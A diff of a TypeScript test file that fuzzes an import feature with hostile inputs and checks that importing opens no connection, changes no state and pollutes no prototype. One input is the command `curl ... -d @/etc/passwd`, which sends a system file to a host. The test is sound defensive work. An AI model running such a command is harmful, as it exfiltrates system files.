@@ -5,8 +5,8 @@ import { z } from 'zod';
 import { targetOptionsShape } from '#contract/models/target.ts';
 import type { Engine } from '#engine/engine-parts.ts';
 import { Failure } from '#engine/failure.ts';
-import { type HandlerServer, startHandler } from '#test/support/handler-server.ts';
 import { makeAwakeEngine } from '#test/support/awake-engine.ts';
+import { type HandlerServer, startHandler } from '#test/support/handler-server.ts';
 import { tempFolder } from '#test/support/temp-folder.ts';
 
 const call = { signal: undefined };
@@ -30,7 +30,7 @@ afterAll(async () => {
 
 /** All that an import must not change, as it can be seen from outside. */
 async function state(): Promise<string> {
-  const { endpoints, targets, settings, console, replays, sandbox, attempts } = engine.handlers;
+  const { endpoints, targets, settings, console, replays, attempts } = engine.handlers;
   const everyAttempt = { text: '', outcomes: [], statuses: [], deadlines: [], sources: [], targetUrl: '', limit: 10 };
   const seen = await Promise.all([
     endpoints.list({}, call),
@@ -46,7 +46,9 @@ async function state(): Promise<string> {
 /** Files as somebody could send them: they name our target, a file, a command, a host that is forbidden, and much more than fits. */
 function hostileTexts(): readonly string[] {
   const to = handler.url;
-  const entry = { request: { method: 'POST', url: to, headers: [{ name: 'Authorization', value: 'Bearer x' }], postData: { text: '{"id":1}' } } };
+  const entry = {
+    request: { method: 'POST', url: to, headers: [{ name: 'Authorization', value: 'Bearer x' }], postData: { text: '{"id":1}' } },
+  };
   const har = (change: object = {}) => JSON.stringify({ log: { version: '1.2', entries: [{ ...entry, ...change }] } });
   return [
     `curl ${to} -d @/etc/passwd`,
@@ -113,18 +115,20 @@ describe('EXP-03, EXP-04, EXP-09 what is read from elsewhere', () => {
     expect(await state()).toBe(before);
     expect(handler.connections()).toBe(0);
     expect(Object.prototype).not.toHaveProperty('isAdmin');
-  });
+  }, 120_000);
 
   test('may be spoilt in 200 ways', async () => {
     const before = await state();
     const texts = hostileTexts();
     const cut = fc.record({ at: fc.nat(), drop: fc.nat(20), put: fc.string({ unit: 'binary', maxLength: 8 }) });
-    const spoilt = fc.tuple(fc.constantFrom(...texts.filter((text) => text.length < 2_000)), fc.array(cut, { maxLength: 5 })).map(([text, cuts]) =>
-      cuts.reduce((whole, { at, drop, put }) => {
-        const from = at % (whole.length + 1);
-        return `${whole.slice(0, from)}${put}${whole.slice(from + drop)}`;
-      }, text),
-    );
+    const spoilt = fc
+      .tuple(fc.constantFrom(...texts.filter((text) => text.length < 2_000)), fc.array(cut, { maxLength: 5 }))
+      .map(([text, cuts]) =>
+        cuts.reduce((whole, { at, drop, put }) => {
+          const from = at % (whole.length + 1);
+          return `${whole.slice(0, from)}${put}${whole.slice(from + drop)}`;
+        }, text),
+      );
     await fc.assert(
       fc.asyncProperty(spoilt, async (text) => {
         expect((await take(text)).filter((end) => !honest.test(end))).toEqual([]);
